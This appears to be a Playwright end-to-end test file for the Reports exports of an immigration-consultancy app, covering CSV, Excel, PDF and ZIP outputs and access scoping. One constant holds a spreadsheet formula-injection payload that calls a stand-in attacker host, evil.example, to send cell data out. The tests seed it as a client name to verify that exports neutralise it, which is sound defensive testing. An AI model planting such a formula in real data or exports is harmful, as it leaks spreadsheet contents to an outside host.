import { readFile } from "node:fs/promises";
import { expect, test, type Download, type Page } from "@playwright/test";
import { parse } from "csv-parse/sync";
import ExcelJS from "exceljs";
import { prisma } from "../lib/db/prisma";
import { pdfToText } from "../scripts/lib/pdf-check";
import { zipEntries } from "../scripts/lib/zip-check";
import { signIn } from "./support/auth";
import { consultantOf, seedClient, seedFirm } from "./support/firm";

const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';

async function download(page: Page, button: string): Promise<{ file: Buffer; name: string; download: Download }> {
  const waiting = page.waitForEvent("download");
  await page.getByRole("button", { name: button, exact: true }).click();
  const done = await waiting;
  const path = await done.path();
  return { file: await readFile(path), name: done.suggestedFilename(), download: done };
}

function csvRows(file: Buffer): Record<string, string>[] {
  return parse(file.toString("utf8"), { bom: true, columns: true, skip_empty_lines: true });
}

/** The newest CEC draw of the ledger (the demo seed imports IRCC's rounds). */
async function latestCec(): Promise<{ number: string; cutoff: number }> {
  const [draw] = await prisma().$queryRaw<{ number: string; cutoff: number }[]>`
    SELECT d."number", d."cutoff" FROM "Draw" d WHERE d."kind" = 'cec' ORDER BY d."date" DESC, d."drawnAt" DESC NULLS LAST, d."number" DESC LIMIT 1`;
  return draw;
}

test("roster CSV and Excel of a filtered view: every row of the view, scoped, typed, inert", async ({ page }) => {
  const firm = await seedFirm("reports-roster");
  const casey = consultantOf(firm, 0);
  const owner = firm.user("owner");
  await seedClient(firm, casey, { firstName: "Amara", lastName: "Okoye", programs: ["FSW"], manualCrs: 512 });
  await seedClient(firm, casey, { firstName: "Mallory", lastName: EVIL, programs: ["FSW"], manualCrs: 455 });
  await seedClient(firm, casey, { firstName: "Cec", lastName: "Onlyclient", programs: ["CEC"], manualCrs: 470 });
  await seedClient(firm, owner, { firstName: "Theirs", lastName: "Otherteam", teamId: firm.teams[1].id, programs: ["FSW"], manualCrs: 500 });
  const elsewhere = await seedFirm("reports-elsewhere");
  await seedClient(elsewhere, consultantOf(elsewhere, 0), { firstName: "Foreign", lastName: "Firmclient", programs: ["FSW"], manualCrs: 600 });

  await signIn(page, casey, "/reports?program=FSW&sort=crs&dir=desc");
  await expect(page.getByRole("heading", { level: 1, name: "Reports" })).toBeVisible();
  await expect(page.getByRole("list", { name: "Filters of this view" })).toContainText("Program: FSW");
  await expect(page.getByText("2 clients in this view.")).toBeVisible();

  const csv = await download(page, "Roster (CSV)");
  expect(csv.name).toMatch(/-roster-\d{4}-\d{2}-\d{2}\.csv$/);
  const rows = csvRows(csv.file);
  expect(rows.map((r) => r["Last name"])).toEqual(["Okoye", `'${EVIL}`]);
  expect(rows[0].CRS).toBe("512");
  expect(rows[0].Status).toBe("Profile in the pool");
  expect(Object.keys(rows[0])).toEqual(expect.arrayContaining(["Profile expires", "Language test expires", "ECA expires", "Work permit expires", "Passport expires"]));
  await expect(page.getByText(/Saved .*roster.*\.csv/)).toBeVisible();
  await page.screenshot({ path: "artifacts/reports/reports-page.png", fullPage: true });

  const xlsx = await download(page, "Roster (Excel)");
  expect(xlsx.name).toMatch(/\.xlsx$/);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(xlsx.file as unknown as ArrayBuffer);
  const sheet = workbook.getWorksheet("Clients")!;
  const headers = (sheet.getRow(1).values as unknown[]).slice(1).map(String);
  const col = (name: string) => headers.indexOf(name) + 1;
  expect(sheet.rowCount).toBe(3);
  expect(sheet.views[0]).toMatchObject({ state: "frozen", ySplit: 1 });
  expect(sheet.getRow(2).getCell(col("Last name")).value).toBe("Okoye");
  expect(sheet.getRow(2).getCell(col("CRS")).type).toBe(ExcelJS.ValueType.Number);
  expect(sheet.getRow(2).getCell(col("Passport expires")).type).toBe(ExcelJS.ValueType.Null);
  expect(sheet.getRow(2).getCell(col("Profile expires")).type).toBe(ExcelJS.ValueType.Date);
  const evil = sheet.getRow(3).getCell(col("Last name"));
  expect(evil.type).toBe(ExcelJS.ValueType.String);
  expect(evil.formula).toBeUndefined();

  const audit = await prisma().auditLog.findMany({ where: { firmId: firm.id, action: { startsWith: "export.roster_" } }, orderBy: { id: "asc" } });
  expect(audit.map((a) => [a.action, a.userId, (a.metadata as { rows: number }).rows])).toEqual([
    ["export.roster_csv", casey.id, 2],
    ["export.roster_xlsx", casey.id, 2],
  ]);
});

test("a client status report (PDF) from the Reports page, and a ZIP for the view", async ({ page }) => {
  const firm = await seedFirm("reports-pdf");
  const casey = consultantOf(firm, 0);
  await prisma().user.update({ where: { firmId_id: { firmId: firm.id, id: casey.id } }, data: { licenceNumber: "R765432" } });
  await seedClient(firm, casey, { firstName: "Amara", lastName: "Pdfclient", consultantId: casey.id, manualCrs: 507, workPermitExpiresOn: "2031-03-31" });
  await seedClient(firm, casey, { firstName: "Ben", lastName: "Pdfclient", consultantId: casey.id, manualCrs: 466 });

  await signIn(page, casey, "/reports");
  const search = page.getByRole("search", { name: "Find a client for a report" });
  await search.getByLabel("Client").fill("Amara Pdfclient");
  await search.getByRole("button", { name: "Find" }).click();
  const pdf = await download(page, "PDF for Amara Pdfclient");
  expect(pdf.name).toMatch(/^client-report-pdfclient-amara-.*\.pdf$/);
  const text = await pdfToText(pdf.file);
  expect(text).toContain(firm.name);
  expect(text).toContain("Amara Pdfclient");
  expect(text).toContain(`Casey Consultant reports-pdf`);
  expect(text).toContain("R765432");
  expect(await pdfToText(pdf.file, { layout: false })).toMatch(/CRS score\s+507\b/);
  expect(text).toMatch(/Work permit\s+2031-03-31/);

  await page.goto("/reports?q=pdfclient");
  await expect(page.getByText("2 clients in this view.")).toBeVisible();
  const zip = await download(page, "Client reports (ZIP of PDFs)");
  const file = `${await zip.download.path()}`;
  const entries = await zipEntries(await readFile(file));
  expect([...entries.keys()].sort()).toEqual([expect.stringMatching(/^client-report-pdfclient-amara-/), expect.stringMatching(/^client-report-pdfclient-ben-/)]);
});

test("the production server's PDFs draw names in other scripts with the embedded fonts", async ({ page }) => {
  const firm = await seedFirm("reports-unicode");
  const casey = consultantOf(firm, 0);
  const id = await seedClient(firm, casey, { firstName: "Thị Hương", lastName: "Nguyễn 王小明", consultantId: casey.id });
  await signIn(page, casey, "/reports");
  const response = await page.request.get(`/api/exports/clients/${id}/report.pdf`);
  expect(response.ok()).toBe(true);
  const text = await pdfToText(await response.body());
  expect(text).toContain("Thị Hương Nguyễn 王小明");
  expect(text).not.toContain("?");
});

test("the draw impact report of a draw, as CSV, from the Reports page", async ({ page }) => {
  const firm = await seedFirm("reports-draw");
  const casey = consultantOf(firm, 0);
  const cec = await latestCec();
  await seedClient(firm, casey, { firstName: "Above", lastName: "Drawclient", manualCrs: cec.cutoff + 20, consultantId: casey.id });
  await seedClient(firm, casey, { firstName: "Near", lastName: "Drawclient", manualCrs: cec.cutoff - 3 });
  await seedClient(firm, firm.user("owner"), { firstName: "Hidden", lastName: "Otherteam", teamId: firm.teams[1].id, manualCrs: cec.cutoff + 30 });

  await signIn(page, casey, "/reports");
  await page.getByLabel("Draw", { exact: true }).selectOption(cec.number);
  const csv = await download(page, "Impact (CSV)");
  expect(csv.name).toMatch(new RegExp(`^draw-${cec.number}-impact-\\d{4}-\\d{2}-\\d{2}\\.csv$`));
  const rows = csvRows(csv.file);
  // "Newly above" depends on the previous CEC cut-off; the other two lists do not.
  const mine = rows.filter((r) => r["Last name"] === "Drawclient" && r.List !== "Newly above");
  expect(mine).toEqual([
    expect.objectContaining({ List: "Above the cut-off", "First name": "Above", "CRS at the draw": String(cec.cutoff + 20), Margin: "20" }),
    expect.objectContaining({ List: "Near miss", "First name": "Near", Margin: "-3" }),
  ]);
  expect(rows.some((r) => r["Last name"] === "Otherteam")).toBe(false);
  const [entry] = await prisma().auditLog.findMany({ where: { firmId: firm.id, action: "export.draw_impact_csv" } });
  expect(entry).toMatchObject({ entityId: cec.number, userId: casey.id });
});

test("exports refuse what the user may not see", async ({ page }) => {
  const firm = await seedFirm("reports-scope");
  const elsewhere = await seedFirm("reports-scope-other");
  const theirs = await seedClient(elsewhere, consultantOf(elsewhere, 0), { firstName: "Not", lastName: "Yours" });
  const otherTeam = await seedClient(firm, firm.user("owner"), { firstName: "Other", lastName: "Team", teamId: firm.teams[1].id });
  await signIn(page, consultantOf(firm, 0), "/reports");
  expect((await page.request.get(`/api/exports/clients/${theirs}/report.pdf`)).status()).toBe(404);
  expect((await page.request.get(`/api/exports/clients/${otherTeam}/report.pdf`)).status()).toBe(404);
  const batch = await page.request.get(`/api/exports/clients/reports.zip?ids=${otherTeam}`);
  expect(batch.status()).toBe(404);
  const tooMany = Array.from({ length: 501 }, (_, i) => `00000000-0000-4000-8000-${String(i).padStart(12, "0")}`);
  const refused = await page.request.post("/api/exports/clients/reports.pdf", { data: { ids: tooMany } });
  expect(refused.status()).toBe(400);
  expect((await refused.json()).error).toMatch(/at most 500 clients; this selection has 501/);
  const signedOut = await page.context().browser()!.newContext();
  const anonymous = await signedOut.request.get(new URL("/api/exports/roster.csv", page.url()).toString(), { maxRedirects: 0 });
  expect(anonymous.status()).toBe(401);
  await signedOut.close();
});
